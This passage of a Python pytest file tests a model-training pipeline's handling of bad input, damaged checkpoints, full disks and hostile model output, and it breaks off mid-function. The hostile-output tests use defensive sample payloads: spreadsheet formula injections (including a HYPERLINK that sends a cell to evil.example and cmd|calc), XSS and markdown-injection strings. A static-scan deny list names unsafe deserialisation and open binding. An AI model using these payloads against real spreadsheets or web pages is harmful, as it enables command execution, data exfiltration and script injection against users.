"""Bad input, broken artifacts, faults and hostile model output (issue 17).

Real parts throughout: the ``hir`` command (typer's runner, in process), real Parquet and
safetensors files cut short or edited, the tiny-random model, a real MLflow tracking server
stopped and started again, a real ``prefect server start`` killed and started again under a
real ``hir train`` subprocess, a real ``hir train`` subprocess sent SIGTERM, Prefect's test
server. A full disk is injected (an ENOSPC from the write, the only fake here: a tmpfs needs
root); ``benchmarks/disk_full_drill.py`` runs ``hir train`` on real full tmpfs mounts
(BENCHMARKS.md, Reliability), and what it found is tested here too (torch and tokenizers
report a full disk without an errno).

Each bad input must give one line naming the file, row or field, exit status 2, no
traceback, and nothing half-processed; each fault must leave nothing a later run trusts and
a rerun must end with the weights of an uninterrupted run.
"""

from __future__ import annotations

import ast
import csv
import errno
import json
import os
import re
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml
from pydantic import BaseModel
from typer.testing import CliRunner

from flows.cli import EXIT_BAD_INPUT, EXIT_NO_SPACE, EXIT_TERMINATED, app
from hir_core import storage
from hir_core.config import PipelineConfig, load_config
from hir_core.data import DataError, load_ifeval_jsonl, load_muldimif_json, load_verl_parquet
from hir_core.models import CheckpointError, build_tiny_random, load_model, save_model
from hir_core.rundir import Manifest, ManifestError, RunDir
from schemas import TABLES
from tests._helpers_flows import (
    ROOT,
    TINY,
    mlflow_uri,
    output_files,
    overrides,
    reference_run,
    single_thread,
    subprocess_env,
)

runner = CliRunner()


def invoke(*args):
    return runner.invoke(app, [str(a) for a in args])


def assert_clear_error(result, *named: str, code: int = EXIT_BAD_INPUT) -> None:
    """Exit ``code`` through ``typer.Exit`` (no exception escaped the command, so it printed
    no traceback; Prefect's flow log may show one), one ``error:`` line naming each of
    ``named``."""
    assert result.exit_code == code, result.output
    assert type(result.exception) is SystemExit, result.exception
    errors = [line for line in result.output.splitlines() if line.startswith("error: ")]
    assert len(errors) == 1, result.output
    for name in named:
        assert name in errors[0], (name, result.output)


@pytest.fixture(scope="module", autouse=True)
def _one_thread():
    with single_thread():
        yield


# ================================================================== bad input: config


def _leaf_fields(model: type[BaseModel], prefix: str = "") -> list[str]:
    fields = []
    for name, info in model.model_fields.items():
        kind = info.annotation
        if isinstance(kind, type) and issubclass(kind, BaseModel):
            fields += _leaf_fields(kind, f"{prefix}{name}.")
        else:
            fields.append(prefix + name)
    return fields


CONFIG_FIELDS = _leaf_fields(PipelineConfig)
# A value no field accepts: a mapping holding a list, or, for a mapping field (whose values
# may be anything: ``rollout.vllm_kwargs``), a list.
WRONG = {"wrong": [1]}
WRONG_MAPPING = [1]


def _wrong_value(field: str):
    model = PipelineConfig
    *parents, leaf = field.split(".")
    for part in parents:
        model = model.model_fields[part].annotation
    kind = model.model_fields[leaf].annotation
    return WRONG_MAPPING if dict in (kind, getattr(kind, "__origin__", None)) else WRONG


def test_every_config_field_is_covered():
    assert len(CONFIG_FIELDS) > 60
    assert "training.lr" in CONFIG_FIELDS and "model.spec" in CONFIG_FIELDS


@pytest.mark.parametrize("field", CONFIG_FIELDS)
def test_every_config_field_of_the_wrong_type_is_refused_naming_it(tmp_path, field):
    """A config file with one field of the wrong type: ``hir train`` exits 2 naming the file
    and the dotted field, before any flow starts or any file is written."""
    data = yaml.safe_load(TINY.read_text())
    node = data
    *parents, leaf = field.split(".")
    for part in parents:
        node = node.setdefault(part, {})
    node[leaf] = _wrong_value(field)
    path = tmp_path / "wrong.yaml"
    path.write_text(yaml.safe_dump(data))
    result = invoke("train", path, "--run-dir", tmp_path / "run", "--no-track")
    assert_clear_error(result, "wrong.yaml")
    # The dotted field, then the reason (``training.bf16: ...``), or the key or union branch
    # inside it that pydantic tried (``data.families.wrong: ...``).
    assert re.search(rf"error: .*wrong\.yaml: {re.escape(field)}[.:]", result.output), result.output
    assert not (tmp_path / "run").exists()


def test_a_truncated_frozen_config_is_refused_naming_it(tmp_path):
    run = tmp_path / "run"
    RunDir(run).init(load_config(TINY))
    text = (run / "config.yaml").read_text()
    (run / "config.yaml").write_text(text[: len(text) // 3] + "\n  bogus: [\n")
    result = invoke("train", TINY, "--run-dir", run, "--no-track")
    assert_clear_error(result, "config.yaml")


# ================================================================== bad input: data rows

TASK = "Explain how tides work."


def _verl(**changes) -> dict:
    row = {
        "data_source": "ifeval",
        "prompt": [{"role": "user", "content": TASK}],
        "reward_model": {
            "style": "rule",
            "ground_truth": json.dumps(
                {"instruction_id_list": ["punctuation:no_comma"], "kwargs": [{}]}
            ),
        },
        "extra_info": {"question": None, "criteria": None},
    }
    row.update(changes)
    return row


def _truth(ids, kwargs) -> dict:
    return {
        "style": "rule",
        "ground_truth": json.dumps({"instruction_id_list": ids, "kwargs": kwargs}),
    }


VERL_ROWS = {
    "missing prompt": (_verl(prompt=None), "missing 'prompt'"),
    "prompt content blank": (_verl(prompt=[{"role": "user", "content": " \n"}]), "non-empty text"),
    "prompt as bare text": (_verl(prompt=[{"text": TASK}]), "lacks role or content"),
    "missing ground truth": (_verl(reward_model={"style": "rule"}), "ground_truth"),
    "ground truth of the wrong type": (
        _verl(reward_model={"style": "rule", "ground_truth": "[1, 2]"}),
        "ground_truth must be an object",
    ),
    "ids of the wrong type": (_verl(reward_model=_truth("punctuation:no_comma", [{}])), "ids"),
    "unknown id": (_verl(reward_model=_truth(["no:such_id"], [{}])), "no:such_id"),
    "kwargs not fitting": (
        _verl(
            reward_model=_truth(
                ["length_constraints:number_words"], [{"num_words": "many", "relation": "x"}]
            )
        ),
        "num_words",
    ),
    "unexpected kwarg": (
        _verl(reward_model=_truth(["punctuation:no_comma"], [{"limit": 3}])),
        "'limit' is not an argument",
    ),
    "kwargs list too short": (
        _verl(reward_model=_truth(["punctuation:no_comma", "change_case:english_lowercase"], [{}])),
        "one entry per id",
    ),
    "family of another source": (_verl(data_source="ifbench"), "data_source is 'ifbench'"),
    "MulDimIF triple malformed": (
        _verl(
            data_source="muldimif",
            reward_model={
                "style": "rule",
                "ground_truth": json.dumps({"instruction_id_list": [["Length", "Words"]]}),
            },
        ),
        "category, subcategory, requirement",
    ),
}


@pytest.mark.parametrize("case", list(VERL_ROWS))
def test_malformed_verl_rows_name_file_and_row(tmp_path, case):
    row, problem = VERL_ROWS[case]
    path = tmp_path / "bad.parquet"
    # One good row first: the bad one is row 1, and nothing of the file is returned.
    pq.write_table(pa.Table.from_pylist([_verl(), row]), path)
    with pytest.raises(DataError) as err:
        load_verl_parquet(path)
    assert "bad.parquet: row 1" in str(err.value) and problem in str(err.value), str(err.value)


@pytest.mark.parametrize(
    ("column", "value", "problem"),
    [
        ("prompt", TASK, "prompt must be a non-empty list of chat messages"),
        ("prompt", [{"role": "user", "content": 7}], "user message content must be non-empty"),
        ("reward_model", "rule", "reward_model.ground_truth must be an object"),
    ],
)
def test_a_verl_column_of_the_wrong_type_names_file_row_and_field(tmp_path, column, value, problem):
    """A Parquet column holds one type: a column of the wrong type (text for the chat, a
    number for the content) fails at its first row, named."""
    path = tmp_path / "bad.parquet"
    pq.write_table(pa.Table.from_pylist([_verl(**{column: value})] * 2), path)
    with pytest.raises(DataError) as err:
        load_verl_parquet(path)
    assert "bad.parquet: row 0" in str(err.value) and problem in str(err.value), str(err.value)


def _jsonl(**changes) -> str:
    record = {"key": 2, "prompt": "x", "instruction_id_list": ["punctuation:no_comma"]}
    record |= {"kwargs": [{}], **changes}
    return json.dumps(record)


JSONL_LINES = {
    "key repeated": (_jsonl(key=1), "repeats line 1"),
    "prompt of the wrong type": (_jsonl(prompt=["x"]), "prompt must be"),
    "ids of the wrong type": (_jsonl(instruction_id_list=[3]), "instruction_id_list"),
    "kwargs of the wrong type": (_jsonl(kwargs=["{}"] * 1 + [1]), "one entry per id"),
    "kwargs entry of the wrong type": (_jsonl(kwargs=[[1]]), "must be an object"),
    "unknown id": (_jsonl(instruction_id_list=["no:such"]), "no:such"),
    "not an object": ("[1, 2]", "expected a JSON object"),
    "truncated line": (_jsonl()[:20], "not valid JSON"),
}


@pytest.mark.parametrize("case", list(JSONL_LINES))
def test_malformed_jsonl_lines_name_file_and_line(tmp_path, case):
    line, problem = JSONL_LINES[case]
    path = tmp_path / "bad.jsonl"
    path.write_text(_jsonl(key=1) + "\n" + line + "\n")
    with pytest.raises(DataError) as err:
        load_ifeval_jsonl(path)
    assert "bad.jsonl: line 2" in str(err.value) and problem in str(err.value), str(err.value)


MULDIMIF_ITEMS = {
    "id repeated": ({"id": 1}, "repeats item 0"),
    "no conversations": ({"id": 2, "conversations": None}, "item 1"),
    "constraints of the wrong type": ({"id": 2, "constraints": "Length"}, "constraints must"),
    "unknown key": ({"id": 2, "constraints": [["No", "Such", "rule"]]}, "muldimif:No_Such"),
}


@pytest.mark.parametrize("case", list(MULDIMIF_ITEMS))
def test_malformed_muldimif_items_name_file_and_item(tmp_path, case):
    good = {
        "id": 1,
        "conversations": [{"role": "user", "content": "Write."}],
        "constraints": [["Length", "Words", "The response must contain no more than 9 words"]],
    }
    changes, problem = MULDIMIF_ITEMS[case]
    path = tmp_path / "bad.json"
    path.write_text(json.dumps([good, {**good, **changes}]))
    with pytest.raises(DataError) as err:
        load_muldimif_json(path)
    assert "bad.json: item 1" in str(err.value) and problem in str(err.value), str(err.value)


def test_bad_data_file_stops_hir_train_before_anything_is_written(tmp_path, prefect_harness):
    """``hir train`` on a verl file with a bad row: exit 2 naming file, row and field; the
    prompts stage records nothing and writes no table (nothing half-processed)."""
    path = tmp_path / "hir16k.parquet"
    pq.write_table(pa.Table.from_pylist([_verl()] * 3 + [VERL_ROWS["unknown id"][0]]), path)
    run = tmp_path / "run"
    args = ["data.source=verl_parquet", f"data.path={path}", "data.prompts_per_iteration=2"]
    result = invoke("train", TINY, *args, "--run-dir", run, "--no-track")
    assert_clear_error(result, "hir16k.parquet: row 3", "no:such_id")
    assert not list(run.glob("iter-*/*.parquet"))
    assert Manifest.load(RunDir(run)).stage(0, "prompts") is None


# ================================================================== bad input: run directory


def _record(rundir: RunDir, k: int, stage: str, outputs: dict[str, Path]) -> None:
    Manifest.load(rundir).record(
        k, stage, outputs=outputs, input_hash="h", started=0.0, finished=1.0, metrics={}
    )


@pytest.fixture
def fake_run(tmp_path) -> RunDir:
    """A run directory with a recorded checkpoint of iteration 0 (the tiny-random model)
    and a prompts table of iteration 1: what ``hir stage RUN 1 rollouts`` reads."""
    rundir = RunDir(tmp_path / "run")
    rundir.init(load_config(TINY, [f"tracking.mlflow_tracking_uri={mlflow_uri(tmp_path)}"]))
    model, tokenizer = build_tiny_random(0)
    checkpoint = save_model(model, tokenizer, rundir.checkpoint_dir(0))
    (checkpoint / "trainer_state.json").write_text('{"steps": 1}')
    train_json = rundir.train_json_path(0)
    train_json.parent.mkdir(parents=True, exist_ok=True)
    train_json.write_text("{}")
    _record(rundir, 0, "train", {"train": train_json, "checkpoint": checkpoint})
    return rundir


MANIFEST_EDITS = {
    "truncated": lambda text: text[: len(text) // 2],
    "not an object": lambda text: "[]",
    "status edited": lambda text: text.replace('"done"', '"finished"'),
    "outputs edited": lambda text: text.replace('"outputs": {', '"outputs": {"x": 1, ', 1),
    "path outside the run": lambda text: text.replace('"path": "', '"path": "../../', 1),
    "iterations of the wrong type": lambda text: text.replace(
        '"iterations": {', '"iterations": {"x": 1, ', 1
    ),
}


@pytest.mark.parametrize("edit", list(MANIFEST_EDITS))
def test_a_truncated_or_edited_manifest_is_refused_naming_it(fake_run, edit):
    path = fake_run.manifest_path
    path.write_text(MANIFEST_EDITS[edit](path.read_text()))
    with pytest.raises(ManifestError, match=r"manifest\.json: "):
        Manifest.load(fake_run)
    result = invoke("stage", fake_run.root, 1, "rollouts", "--no-track")
    assert_clear_error(result, "manifest.json")


def test_stage_rerun_refuses_a_truncated_checkpoint_naming_it(fake_run):
    """``hir stage RUN 1 rollouts --force`` would generate from checkpoint 0: cut short since
    its train stage recorded it, it is refused (the file and the stage to rerun named)."""
    weights = fake_run.checkpoint_dir(0) / "model.safetensors"
    weights.write_bytes(weights.read_bytes()[:1000])
    result = invoke("stage", fake_run.root, 1, "rollouts", "--force", "--no-track")
    assert_clear_error(result, "checkpoints/iter-0000", "was altered", "0 train --force")


def test_audit_of_a_table_with_a_wrong_schema_names_file_and_column(fake_run):
    path = fake_run.table_path(0, "rollouts")
    path.parent.mkdir(parents=True, exist_ok=True)
    schema = TABLES["rollouts"]
    schema = schema.remove(schema.get_field_index("response"))
    table = pa.Table.from_pydict(
        {f.name: [_value(f.type, i) for i in range(2)] for f in schema}, schema=schema
    )
    pq.write_table(table.replace_schema_metadata(_metadata("rollouts")), path)
    result = invoke("audit", fake_run.root, "--stage", "rollouts")
    assert_clear_error(result, "rollouts.parquet", "'response'")


# ================================================================== broken artifacts


@pytest.fixture
def checkpoint(tmp_path) -> Path:
    model, tokenizer = build_tiny_random(0)
    return save_model(model, tokenizer, tmp_path / "checkpoint")


@pytest.mark.parametrize("keep", [0, 7, 1000, -100])
def test_truncated_safetensors_is_an_error_naming_the_file(checkpoint, keep):
    weights = checkpoint / "model.safetensors"
    weights.write_bytes(weights.read_bytes()[:keep])
    with pytest.raises(CheckpointError, match=r"model\.safetensors: not a complete safetensors"):
        load_model(str(checkpoint))


def test_weights_of_another_model_are_an_error(checkpoint, tmp_path):
    from transformers import LlamaConfig, LlamaForCausalLM

    other = LlamaForCausalLM(
        LlamaConfig(
            vocab_size=1024,
            hidden_size=32,
            intermediate_size=64,
            num_hidden_layers=1,
            num_attention_heads=2,
            num_key_value_heads=1,
        )
    )
    other.save_pretrained(tmp_path / "other")
    (checkpoint / "model.safetensors").write_bytes(
        (tmp_path / "other" / "model.safetensors").read_bytes()
    )
    with pytest.raises(CheckpointError, match="another shape|do not fit"):
        load_model(str(checkpoint))


def test_weights_missing_a_tensor_are_an_error(checkpoint):
    from safetensors.torch import load_file, save_file

    weights = checkpoint / "model.safetensors"
    state = load_file(weights)
    del state["model.norm.weight"]
    save_file(state, weights, metadata={"format": "pt"})
    with pytest.raises(CheckpointError, match=r"do not fit its config\.json.*model\.norm"):
        load_model(str(checkpoint))


@pytest.mark.parametrize(
    ("damage", "message"),
    [
        (["tokenizer.json"], "the tokenizer cannot be loaded"),
        (["tokenizer_config.json"], "no end-of-sequence token"),
        (["tokenizer.json", "tokenizer_config.json"], "the tokenizer cannot be loaded"),
        (["chat_template.jinja"], "no chat template"),
        (["config.json"], "no config.json"),
        ("config.json", r"config\.json: not a readable JSON file"),
        ("tokenizer.json", "the tokenizer cannot be loaded"),
    ],
)
def test_a_model_folder_missing_or_with_damaged_files_is_an_error(checkpoint, damage, message):
    if isinstance(damage, list):
        for name in damage:
            (checkpoint / name).unlink()
    else:
        (checkpoint / damage).write_text('{"truncated": ')
    with pytest.raises(CheckpointError if "chat" not in message else ValueError, match=message):
        load_model(str(checkpoint))


def test_hir_eval_of_a_truncated_checkpoint_exits_2_naming_the_file(
    checkpoint, tmp_path, prefect_harness
):
    weights = checkpoint / "model.safetensors"
    weights.write_bytes(weights.read_bytes()[:-4096])
    result = invoke("eval", checkpoint, "--config", TINY, "--limit", 1, "--no-track")
    assert_clear_error(result, "model.safetensors", "not a complete safetensors file")


# ================================================================== hostile model output

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "| a | b |\n|---|---|\n| injected | row |",
    "![pixel](http://evil.example/track.png) and [click](javascript:alert(1))",
    "<img src=x onerror=alert(1)><script>alert(1)</script><a href='http://evil'>x</a>",
    "www.evil.example and http://evil.example/path and mail@evil.example",
    "# Heading\n> quote\n* item\n```\ncode\n```",
    "text with a \\| escaped pipe and &lt;entity&gt; and &amp;",
    "\u202eevil\u2066 \x00\x1b[31m",
    "plain answer, nothing special.",
]


def _value(dtype: pa.DataType, i: int):
    if pa.types.is_string(dtype) or pa.types.is_large_string(dtype):
        return f"v{i}"
    if pa.types.is_boolean(dtype):
        return False
    if pa.types.is_integer(dtype):
        return i
    if pa.types.is_floating(dtype):
        return -0.5
    if pa.types.is_list(dtype) or pa.types.is_large_list(dtype):
        return []
    if pa.types.is_struct(dtype):
        return {
            dtype.field(j).name: _value(dtype.field(j).type, i) for j in range(dtype.num_fields)
        }
    raise TypeError(dtype)


def _table(name: str, rows: int, **columns) -> pl.DataFrame:
    """A table that conforms to schema ``name``, with ``columns`` set (the rest filled)."""
    schema = TABLES[name]
    data = {f.name: [_value(f.type, i) for i in range(rows)] for f in schema}
    data.update(columns)
    return pl.from_arrow(pa.Table.from_pydict(data, schema=schema))


def _metadata(name: str) -> dict:
    from schemas import SCHEMA_VERSION

    return {storage.VERSION_KEY: str(SCHEMA_VERSION).encode(), storage.TABLE_KEY: name.encode()}


def test_audit_csv_neutralises_formula_cells(fake_run, tmp_path):
    """Model text that a spreadsheet would run as a formula (OWASP: a cell starting with
    = + - @ tab or CR) gets a leading quote in ``hir audit --csv``; other text and numbers
    are unchanged (read back with Python's csv module)."""
    n = len(HOSTILE)
    ids = [f"p{i}-s0" for i in range(n)]
    frame = _table(
        "rollouts", n, response=HOSTILE, rollout_id=ids, prompt_id=[f"p{i}" for i in range(n)]
    )
    storage.write_table(frame, fake_run.table_path(0, "rollouts"), "rollouts")
    out = tmp_path / "audit.csv"
    result = invoke("audit", fake_run.root, "--stage", "rollouts", "--csv", out)
    assert result.exit_code == 0, result.output
    with open(out, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["response"] for r in rows] == [
        "'" + text if text[0] in "=+-@\t\r" else text for text in HOSTILE
    ]
    for row in rows:
        for cell in row.values():
            assert not cell or cell[0] not in "=+@\t\r", cell
            assert not cell.startswith("-") or _is_number(cell), cell


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _replays(texts: list[str]) -> pl.DataFrame:
    n = len(texts)
    return _table(
        "replays",
        n,
        replay_id=[f"r{i}" for i in range(n)],
        rewritten_prompt=texts,
        response=texts,
        original_prompt=texts,
        kept_ids=[["punctuation:no_comma"]] * n,
        dropped_ids=[[t[:20]] for t in texts],  # an id is data too (a hostile file)
    )


def test_replay_artifact_cells_are_inert_markdown():
    """Each text cell of the replay table artifact, rendered as Prefect's UI renders it
    (markdown with raw HTML allowed; markdown-it here), is one paragraph of text: no link,
    image, HTML tag, heading, list, code or table cell of its own, and the table row keeps
    its cells. Bare URLs are escaped (``\\:``, ``\\.``), so GFM's autolinks cannot start."""
    from markdown_it import MarkdownIt

    from tasks.report import replay_rows

    md = MarkdownIt("commonmark", {"html": True}).enable("table")
    rows = replay_rows(_replays(HOSTILE))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        cells = [v for v in row.values() if isinstance(v, str)]
        for cell in cells:
            assert "\n" not in cell and "\r" not in cell
            tokens = md.parse(cell)
            kinds = {t.type for t in tokens}
            assert kinds <= {"paragraph_open", "inline", "paragraph_close"}, (cell, kinds)
            children = {c.type for t in tokens if t.children for c in t.children}
            assert children <= {"text", "text_special", "softbreak"}, (cell, children)
            assert "://" not in cell and "www." not in cell
        header = "| " + " | ".join(row) + " |\n|" + "---|" * len(row) + "\n"
        line = "| " + " | ".join(str(v) for v in row.values()) + " |\n"
        html = md.render(header + line)
        assert html.count("<td>") == len(row), html
        assert "<a " not in html and "<img" not in html and "<script" not in html


def test_markdown_text_keeps_the_text_readable():
    """What an escaped cell renders to is the text itself (line breaks shown as a mark,
    control characters as the replacement mark)."""
    from markdown_it import MarkdownIt

    from tasks.report import LINE_BREAK_MARK, markdown_text

    md = MarkdownIt("commonmark", {"html": True})
    text = "A [link](x) <b>bold</b> & *stars* | pipe \\ back `tick` #1 ~x~ _u_"
    rendered = md.render(markdown_text(text)).removeprefix("<p>").removesuffix("</p>\n")
    import html as html_lib

    assert html_lib.unescape(rendered) == text
    assert markdown_text("a\r\nb\nc") == f"a{LINE_BREAK_MARK}b{LINE_BREAK_MARK}c"


def test_summary_markdown_escapes_the_run_name():
    from tasks.report import summary_markdown

    text = summary_markdown("evil](http://x) <img src=x>\n# injected", 0, {"ila": 0.5})
    assert "<img" not in text and "](http" not in text
    assert text.splitlines()[0].startswith("# evil\\]")
    assert "\n# injected" not in text


# ================================================================== security scan

SOURCES = [
    p
    for folder in ("hir_core", "tasks", "flows", "schemas", "benchmarks", "tests")
    for p in sorted((ROOT / folder).rglob("*.py"))
]
UNSAFE_MODULES = {"pickle", "cPickle", "cloudpickle", "dill", "shelve", "marshal", "joblib"}


def _calls(tree: ast.AST):
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            func = node.func
            name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
            owner = (
                func.value.id
                if isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name)
                else ""
            )
            yield node, owner, name


def _keyword(node: ast.Call, name: str):
    return next((k.value for k in node.keywords if k.arg == name), None)


def test_code_has_no_unsafe_deserialisation_or_open_binding():
    """Scans every module: ``torch.load`` only with ``weights_only=True``; no pickle-family
    module, ``numpy.load(allow_pickle=True)``, ``yaml.load``/``unsafe_load``, ``eval`` or
    ``exec``, ``shell=True``; ``trust_remote_code`` only passed on from the config (never a
    literal True); no server bound to 0.0.0.0 or ``::``."""
    problems = []
    for path in SOURCES:
        rel = path.relative_to(ROOT)
        if rel.as_posix() == "tests/test_reliability.py":
            continue  # this file names the patterns
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, (ast.Import, ast.ImportFrom)):
                names = (
                    [a.name for a in node.names]
                    if isinstance(node, ast.Import)
                    else [node.module or ""]
                )
                for name in names:
                    if name.split(".")[0] in UNSAFE_MODULES:
                        problems.append(f"{rel}:{node.lineno}: imports {name}")
            if isinstance(node, ast.Constant) and node.value in ("0.0.0.0", "::"):
                problems.append(f"{rel}:{node.lineno}: binds {node.value!r}")
        for node, owner, name in _calls(tree):
            where = f"{rel}:{node.lineno}"
            if owner == "torch" and name == "load":
                value = _keyword(node, "weights_only")
                if not (isinstance(value, ast.Constant) and value.value is True):
                    problems.append(f"{where}: torch.load without weights_only=True")
            if owner in ("np", "numpy") and name == "load":
                value = _keyword(node, "allow_pickle")
                if value is not None and not (
                    isinstance(value, ast.Constant) and value.value is False
                ):
                    problems.append(f"{where}: numpy.load with allow_pickle")
            if owner == "yaml" and name in ("load", "unsafe_load", "full_load", "load_all"):
                problems.append(f"{where}: yaml.{name} (use yaml.safe_load)")
            if isinstance(node.func, ast.Name) and name in ("eval", "exec"):  # not model.eval()
                problems.append(f"{where}: {name}()")
            shell = _keyword(node, "shell")
            if isinstance(shell, ast.Constant) and shell.value is True:
                problems.append(f"{where}: shell=True")
            remote = _keyword(node, "trust_remote_code")
            if remote is not None and not (
                (isinstance(remote, ast.Constant) and remote.value is False)
                or (isinstance(remote, ast.Attribute) and remote.attr == "trust_remote_code")
                or (isinstance(remote, ast.Name) and remote.id == "trust_remote_code")
            ):
                problems.append(f"{where}: trust_remote_code={ast.unparse(remote)}")
            for key in ("host", "dashboard_host", "bind"):
                value = _keyword(node, key)
                if isinstance(value, ast.Constant) and value.value not in (
                    "127.0.0.1",
                    "localhost",
                ):
                    problems.append(f"{where}: {key}={value.value!r}")
    for path in [
        *(ROOT / "deployments").rglob("*"),
        *(ROOT / "configs").rglob("*"),
        ROOT / "Makefile",
    ]:
        if path.is_file() and ("0.0.0.0" in path.read_text() or "--host ::" in path.read_text()):
            problems.append(f"{path.relative_to(ROOT)}: binds every interface")
    assert not problems, "\n".join(problems)


def test_remote_code_is_off_and_servers_are_local_by_default():
    """The config's default refuses remote code; Prefect's server (started by ``hir`` when
    none is configured) listens on 127.0.0.1; no task or flow result is pickled to disk."""
    from prefect.settings import PREFECT_RESULTS_PERSIST_BY_DEFAULT, PREFECT_SERVER_API_HOST
    from prefect.tasks import Task

    import flows.evaluate
    import flows.run_stage
    import flows.train
    import tasks

    assert PipelineConfig.model_fields["model"].default_factory().trust_remote_code is False
    assert PREFECT_SERVER_API_HOST.value() == "127.0.0.1"
    assert PREFECT_RESULTS_PERSIST_BY_DEFAULT.value() is False
    found = [
        obj
        for module in (tasks, *(getattr(tasks, n) for n in dir(tasks) if not n.startswith("_")))
        for obj in (vars(module).values() if hasattr(module, "__dict__") else [])
        if isinstance(obj, Task)
    ]
    assert len({t.name for t in found}) >= 8
    for task in found:
        assert task.persist_result is False, task.name
    for flow in (flows.train.train, flows.run_stage.run_stage, flows.evaluate.evaluate):
        assert flow.persist_result in (None, False), flow.name


# ================================================================== faults: disk full


def test_a_full_disk_mid_write_publishes_nothing_and_names_the_file(tmp_path, monkeypatch):
    path = tmp_path / "iter-0000" / "rollouts.parquet"
    good = _table("rollouts", 3)
    storage.write_table(good, path, "rollouts")
    before = path.read_bytes()

    def full(table, where, *args, **kwargs):
        where.write(b"PAR1 partial")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pq, "write_table", full)
    with pytest.raises(storage.DiskFullError, match=r"rollouts\.parquet: no space left") as err:
        storage.write_table(_table("rollouts", 5), path, "rollouts")
    assert err.value.errno == errno.ENOSPC
    assert path.read_bytes() == before  # the previous file, intact
    assert sorted(p.name for p in path.parent.iterdir()) == ["rollouts.parquet"]  # no temp


def test_hir_exits_4_on_a_full_disk_naming_the_file(tmp_path, monkeypatch):
    def full(table, where, *args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pq, "write_table", full)
    out = tmp_path / "prompts.parquet"
    result = invoke("data", "build", out, "--n-train", 4, "--n-heldout", 2)
    assert_clear_error(result, "prompts.parquet: no space left", code=EXIT_NO_SPACE)
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize(
    ("error", "full"),
    [
        # What benchmarks/disk_full_drill.py met on a real full tmpfs: torch.save's C++
        # writer and Hugging Face tokenizers' Rust writer give no errno.
        (RuntimeError("basic_ios::clear: iostream error"), True),
        (Exception("No space left on device (os error 28)"), True),
        (OSError(errno.EDQUOT, "Disk quota exceeded"), True),
        (RuntimeError("CUDA out of memory"), False),
        (OSError(errno.EACCES, "Permission denied"), False),
    ],
)
def test_native_writers_full_disk_is_recognised(error, full, monkeypatch, tmp_path):
    """A full disk is recognised whatever wrote (through the chain of a wrapping error),
    and ``hir`` exits 4 on it; anything else is not taken for one."""
    try:
        try:
            raise error
        except Exception as inner:
            raise RuntimeError("the train stage failed") from inner
    except RuntimeError as wrapped:
        assert storage.is_disk_full(wrapped) is full

    def failing(*args, **kwargs):
        raise error

    monkeypatch.setattr(pq, "write_table", failing)
    result = invoke("data", "build", tmp_path / "prompts.parquet", "--n-train", 4, "--n-heldout", 2)
    assert (result.exit_code == EXIT_NO_SPACE) is full, result.output


# ================================================================== faults: flows


@pytest.fixture(scope="module")
def hir_run(tmp_path_factory, prefect_harness) -> Path:
    return reference_run(tmp_path_factory.mktemp("reliability"), "hir")


def test_full_disk_in_a_checkpoint_and_a_table_then_resume(hir_run, tmp_path, monkeypatch):
    """ENOSPC while iteration 0's checkpoint is written (safetensors), then, on the rerun,
    while iteration 1's rollouts table is written; each run fails with the full disk named
    and nothing recorded for that stage; the third run, with space, ends with the weights
    and tables of the uninterrupted run. Then iteration 0's checkpoint is cut short on disk:
    the next run recomputes its train stage (the manifest's hash no longer matches) and
    nothing else, to the same bytes."""
    import transformers.modeling_utils as modeling

    from flows.train import train

    run_dir = tmp_path / "full"
    args = {"config": str(TINY), "run_dir": str(run_dir), "overrides": overrides("hir", "x")}
    args["track"] = False
    real_save = modeling.safe_save_file  # what save_pretrained writes the weights with

    def full_disk(*a, **k):
        raise OSError(errno.ENOSPC, "No space left on device", "model.safetensors")

    monkeypatch.setattr(modeling, "safe_save_file", full_disk)
    with pytest.raises(OSError) as err:
        train(**args)
    assert storage.is_disk_full(err.value)
    rundir = RunDir(run_dir)
    assert Manifest.load(rundir).stage(0, "train") is None
    assert not rundir.checkpoint_dir(0).exists()  # only a temporary folder, never trusted
    monkeypatch.setattr(modeling, "safe_save_file", real_save)

    real_write = pq.write_table
    rollouts = rundir.table_path(1, "rollouts")

    def full_at_rollouts_1(table, where, *a, **k):
        # atomic_write hands over an fdopen'ed temporary file: its path is the fd's link.
        written = os.readlink(f"/proc/self/fd/{where.fileno()}") if hasattr(where, "fileno") else ""
        if written.startswith(str(rollouts.parent / ".rollouts.parquet")):
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_write(table, where, *a, **k)

    monkeypatch.setattr(pq, "write_table", full_at_rollouts_1)
    with pytest.raises(storage.DiskFullError, match=r"iter-0001/rollouts\.parquet"):
        train(**args)
    assert Manifest.load(rundir).stage(1, "rollouts") is None
    assert not rollouts.exists() and not list(rollouts.parent.glob(".rollouts*"))
    monkeypatch.setattr(pq, "write_table", real_write)

    train(**args)
    assert output_files(run_dir) == output_files(hir_run)

    from tests._helpers_flows import finished_times

    weights = rundir.checkpoint_dir(0) / "model.safetensors"
    weights.write_bytes(weights.read_bytes()[:5000])
    before = finished_times(run_dir)
    train(**args)
    after = finished_times(run_dir)
    assert {key for key in before if before[key] != after[key]} == {"0/train"}
    assert output_files(run_dir) == output_files(hir_run)


def _wait_for(predicate, timeout: float, what: str, proc=None) -> None:
    deadline = time.time() + timeout
    while time.time() < deadline:
        if predicate():
            return
        if proc is not None and proc.poll() is not None:
            out = proc.stdout.read() if proc.stdout else ""
            raise AssertionError(
                f"process ended (rc {proc.returncode}) before {what}: {out[-3000:]}"
            )
        time.sleep(0.2)
    raise AssertionError(f"timed out waiting for {what}")


def _recorded(run_dir: Path, k: int, stage: str) -> bool:
    try:
